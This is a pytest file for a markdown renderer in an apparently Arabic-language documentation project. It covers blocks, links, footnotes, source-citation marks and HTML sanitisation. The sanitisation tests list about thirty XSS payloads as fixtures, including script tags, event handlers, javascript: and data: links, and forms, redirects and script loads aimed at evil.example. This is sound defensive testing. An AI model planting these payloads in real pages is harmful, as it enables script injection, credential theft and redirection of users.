"""Markdown of contributors: blocks, items, links, marks of sources, and clean HTML."""

import re

import pytest
from markdown import markdown as naive_markdown

from engine.outlines import Outline
from sanad.markdown import (
    Link,
    find_citations,
    link_citations,
    map_text,
    plain_text,
    render_markdown,
)

_MIXED = "وزّعت IOM 120 قسيمة"
_PAGE = "sanad-root:/ar/practices/x/"


def _html(text: str) -> str:
    rendered = render_markdown(text)
    return "\n".join([*(block.html for block in rendered.blocks), rendered.notes_html])


def test_blocks_know_tag_and_line_of_the_file() -> None:
    """Each top-level element is a block with the line of the file where it begins."""
    text = f"## السياق\n\n{_MIXED}\n\n- a\n- b\n\n---\n\n### Governments\n"
    blocks = render_markdown(text, first_line=20).blocks

    assert [("h2", 20), ("p", 22), ("ul", 24), ("hr", 27), ("h3", 29)] == [
        (block.tag, block.line) for block in blocks
    ]


def test_block_has_html_with_and_without_its_tag() -> None:
    """A block gives its whole HTML and what stands inside."""
    (block,) = render_markdown(f"*{_MIXED}*\n").blocks

    assert f"<p><em>{_MIXED}</em></p>" == block.html
    assert f"<em>{_MIXED}</em>" == block.inner


@pytest.mark.parametrize("level", [1, 2, 3, 4, 5, 6])
def test_heading_of_any_level_is_kept(level: int) -> None:
    """No heading is lost, however deep."""
    (block,) = render_markdown(f"{'#' * level} {_MIXED}\n").blocks

    assert (f"h{level}", _MIXED) == (block.tag, block.inner)


@pytest.mark.parametrize(
    ("text", "items"),
    [
        ("- أول IOM 1\n- ثانٍ\n", ("أول IOM 1", "ثانٍ")),
        ("1. one\n2. two\n", ("one", "two")),
        ("- one\n\n- two\n", ("one", "two")),
        ("- **bold**\n", ("<strong>bold</strong>",)),
        ("- one\n\n  two\n", ("<p>one</p>\n<p>two</p>",)),
        ("- > quoted\n", ("<blockquote>\n<p>quoted</p>\n</blockquote>",)),
        ("- a\n  - b\n", ("a\n<ul>\n<li>b</li>\n</ul>",)),
        ("- a\n  ***\n", ("a\n<hr>",)),
        ("-\n", ("",)),
    ],
)
def test_list_gives_its_items(text: str, items: tuple[str, ...]) -> None:
    """A list is read item by item; a lone paragraph loses its tag, all else stays."""
    (block,) = render_markdown(text).blocks

    assert items == block.items


def test_other_blocks_have_no_items() -> None:
    """Only lists have items."""
    assert () == render_markdown(_MIXED).blocks[0].items


def test_no_position_is_left_in_html() -> None:
    """The positions that cmark writes do not reach a page."""
    text = f"| a | {_MIXED} |\n|:--|--:|\n| 1 | 2 |\n\n- x\n\n[^1]\n\n[^1]: y\n"

    assert "sourcepos" not in _html(text)


def test_words_that_look_like_a_position_stay() -> None:
    """A description may hold what looks like an attribute."""
    alt = 'قبل data-sourcepos="1:1-1:2" بعد IOM 3'
    (link,) = render_markdown(f"![{alt}](media/a.png)\n").links

    assert alt == link.description


def test_table_keeps_alignment() -> None:
    """Tables are rendered as on the forge, with the alignment of their columns."""
    outline = Outline(_html(f"| a | b |\n|:--|--:|\n| {_MIXED} | 2 |\n"))

    assert ["left", "right"] == [e.attributes["align"] for e in outline.all("td")]
    assert [_MIXED, "2"] == outline.texts("td")


def test_footnotes_stand_apart() -> None:
    """Footnotes come with their links to and from the text, outside of the blocks."""
    rendered = render_markdown(f"نص[^1]\n\n[^1]: {_MIXED}\n")
    text, notes = Outline(rendered.blocks[0].html), Outline(rendered.notes_html)

    assert 1 == len(rendered.blocks)
    assert text.all("a")[0].attributes["href"] == f"#{notes.values('id')[0]}"
    assert notes.all("a")[0].attributes["href"] == f"#{text.values('id')[0]}"
    assert _MIXED in notes.texts("p")[0]


def test_links_and_pictures_are_found_with_their_lines() -> None:
    """Every address is found as written, also in lists and footnotes."""
    text = (
        f"[a](../b/ar.md) و[c](https://d.e/?f=1&g=2)\n\n"
        f"- ![{_MIXED}](media/h.png)\n\nx[^1] www.i.org j@k.org\n\n[^1]: [l](m)\n"
    )

    assert (
        Link("../b/ar.md", 4),
        Link("https://d.e/?f=1&g=2", 4),
        Link("media/h.png", 6, _MIXED, is_picture=True),
        Link("http://www.i.org", 8),
        Link("mailto:j@k.org", 8),
        Link("m", 10),
    ) == render_markdown(text, first_line=4).links


def test_links_of_footnotes_themselves_are_not_the_contributor_s() -> None:
    """The links between a text and its footnotes are none that a contributor wrote."""
    assert () == render_markdown(f"نص[^1]\n\n[^1]: {_MIXED}\n").links


def test_link_that_looks_like_a_footnote_is_found() -> None:
    """A contributor's own link to an anchor is found, whatever its name."""
    assert (Link("#fnord", 1),) == render_markdown("[x](#fnord)\n").links


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        (f"{_MIXED}\n\n<div>x</div>\n", ((12, "<div>"),)),
        ("a <b>b</b>\n", ((10, "<b>"),)),
        ("<div\nclass=x>\n", ((10, "<div"),)),
        ("<!-- تعليق IOM 1 -->\n", ((10, "<!"),)),
        ("<?php x ?>\n", ((10, "<?"),)),
        ("x\n\n</section>\n", ((12, "</section>"),)),
        ("a < b and c > d\n", ()),
        ("<https://a.org> <a@b.org>\n", ()),
        ("`<div>`\n", ()),
    ],
)
def test_raw_html_is_found_with_its_line(
    text: str, lines: tuple[tuple[int, str], ...]
) -> None:
    """Raw HTML is found where it stands; signs, addresses and code are none."""
    assert lines == render_markdown(text, first_line=10).raw_html_lines


# A build by Python-Markdown, as MkDocs does it, lets each of these act on the page.
_LIVE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<img src="x" onerror="alert(1)">',
    '<svg onload="alert(1)"><animate attributeName="href"/></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="p"><button>ok</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<div id="__search" style="position:fixed">x</div>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<style>body{background:url("//evil.example")}</style>',
    "<object data=x></object><embed src=x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "**x**{: #__search onclick=\"alert('x')\" }",
    "## x {#__search}",
    '[x](https://a.org){: onmouseover="alert(1)" id="__drawer"}',
    "x[^__search]\n\n[^__search]: y",
    'x[^"onload="a]\n\n[^"onload="a]: y',
    "```html\n<script>alert(1)</script>\n```",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror='alert(1)'> |",
]
# These aim at the engine's own cutting of HTML into blocks and items.
_TRICKS = [
    '![x](x "a\\" onerror=\\"alert(1)")',
    '![x" onerror="alert(1)](media/a.png)',
    "![<li> <script>alert(1)</script>](media/a.png)",
    "- ![</li></ul><script>alert(1)</script>](media/a.png)",
    '```"onload="alert(1)\nx\n```',
]
_PAYLOADS = [*_LIVE, *_TRICKS]
_ALLOWED = {
    *("a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("hr", "img", "li", "ol", "p", "pre", "strong", "sup", "table", "tbody", "td"),
    *("th", "thead", "tr", "ul"),
}
_SCHEMES = ("http:", "https:", "mailto:")


def _find_dangers(outline: Outline) -> list[str]:
    """Find what may act on a page: elements, attributes, addresses, foreign ids."""
    urls = (*outline.values("href"), *outline.values("src"))
    names = {name for element in outline.elements for name in element.attributes}
    return [
        *({element.tag for element in outline.elements} - _ALLOWED),
        *(names - {"href", "id", "src", "alt", "align", "start"}),
        *(u for u in urls if ":" in u and not u.startswith(_SCHEMES)),
        *(name for name in outline.values("id") if not name.startswith("fn")),
    ]


@pytest.mark.parametrize("payload", _LIVE)
def test_payload_is_live_in_a_naive_build(payload: str) -> None:
    """The payloads are no blanks: where nothing is cleaned they reach the page."""
    html = naive_markdown(payload, extensions=["attr_list", "footnotes", "tables"])

    assert [] != _find_dangers(Outline(html))


@pytest.mark.parametrize("payload", _PAYLOADS)
def test_nothing_of_a_contributor_acts_on_a_page(payload: str) -> None:
    """Only harmless elements, attributes and addresses reach the clean HTML."""
    outline = Outline(_html(f"{_MIXED}\n\n{payload}\n\nبعد\n"))

    assert [] == _find_dangers(outline)
    assert [] == outline.mismatched


@pytest.mark.parametrize("payload", _PAYLOADS)
def test_what_stands_around_an_attack_is_kept(payload: str) -> None:
    """The text before and after a payload is still there, each in its paragraph."""
    texts = Outline(_html(f"{_MIXED}\n\n{payload}\n\nبعد\n")).texts("p")

    assert _MIXED == texts[0]
    assert "بعد" in texts


@pytest.mark.parametrize(
    "text", ["{{ 7*7 }} IOM", "{% raw %} ق", "{: #__search }", "[[x]]", "--8<-- 'a'"]
)
def test_braces_are_text(text: str) -> None:
    """What other tools would carry out stands on the page as it was written."""
    assert [text] == Outline(_html(text)).texts("p")


def test_description_of_a_picture_is_no_markup() -> None:
    """Tags in a description stay words, and split neither blocks nor items."""
    alt = "</li><li> <script>alert(1)</script> صورة IOM 1"
    (block,) = render_markdown(f"- ![{alt}](media/a.png) نص\n- ب\n").blocks
    outline = Outline(block.html)

    assert 2 == len(block.items)
    assert [alt] == outline.values("alt")
    assert ["نص", "ب"] == outline.texts("li")


def test_code_is_shown_not_run() -> None:
    """Code stands on the page as text."""
    outline = Outline(_html("`<script>alert(1)</script>` ق\n"))

    assert ["<script>alert(1)</script>"] == outline.texts("code")


def test_marks_of_sources_become_links() -> None:
    """Each mark links to its source on the practice's page."""
    outline = Outline(link_citations(f"<p>{_MIXED}.[1][12]</p>", _PAGE))

    assert [f"{_PAGE}#source-1", f"{_PAGE}#source-12"] == outline.values("href")
    assert ["[1]", "[12]"] == outline.texts("sup")


def test_mark_in_a_link_stays_text() -> None:
    """A link is never put into a link: a mark in its words stays as it is."""
    html = f'<p><a href="https://a.example">{_MIXED} [1]</a> [2]</p>'
    outline = Outline(link_citations(html, _PAGE))

    assert ["https://a.example", f"{_PAGE}#source-2"] == outline.values("href")


@pytest.mark.parametrize("mark", ["[٢]", "[۲]", "[02]"])
def test_mark_of_other_digits_leads_to_the_same_source(mark: str) -> None:
    """A mark typed with Eastern digits is the mark of the same source."""
    outline = Outline(link_citations(f"<p>{_MIXED}{mark}</p>", _PAGE))

    assert (2,) == find_citations(mark)
    assert [f"{_PAGE}#source-2"] == outline.values("href")
    assert ["[2]"] == outline.texts("a")


def test_mark_inside_a_tag_is_left() -> None:
    """What looks like a mark in a picture's description is no mark."""
    html = '<img src="media/a.png" alt="الجدول [2] من IOM">'

    assert html == link_citations(html, _PAGE)
    assert () == find_citations(html)


@pytest.mark.parametrize(
    ("html", "numbers"),
    [
        (f"<p>{_MIXED}.[1][4] ثم [1]</p>", (1, 4, 1)),
        ("<p>[123] [x] [] [1</p>", ()),
        ("<p>[<em>1</em>]</p>", ()),
        ("", ()),
    ],
)
def test_citations_are_found_in_order(html: str, numbers: tuple[int, ...]) -> None:
    """The numbers of the sources come in order, with repeats."""
    assert numbers == find_citations(html)


def test_text_alone_is_changed() -> None:
    """A pattern is replaced between tags and never inside one."""
    html = '<b id="x1">x1</b> <img alt="1">1'
    changed = map_text(html, re.compile("1"), lambda _: "2")

    assert '<b id="x1">x2</b> <img alt="1">2' == changed


@pytest.mark.parametrize(
    ("html", "words"),
    [
        (f"<p>{_MIXED}</p>\n<p>&amp; ثم</p>", f"{_MIXED} & ثم"),
        ("<em>a</em>", "a"),
        ("", ""),
    ],
)
def test_plain_text_is_words(html: str, words: str) -> None:
    """The words of HTML come without tags, entities resolved."""
    assert words == plain_text(html)
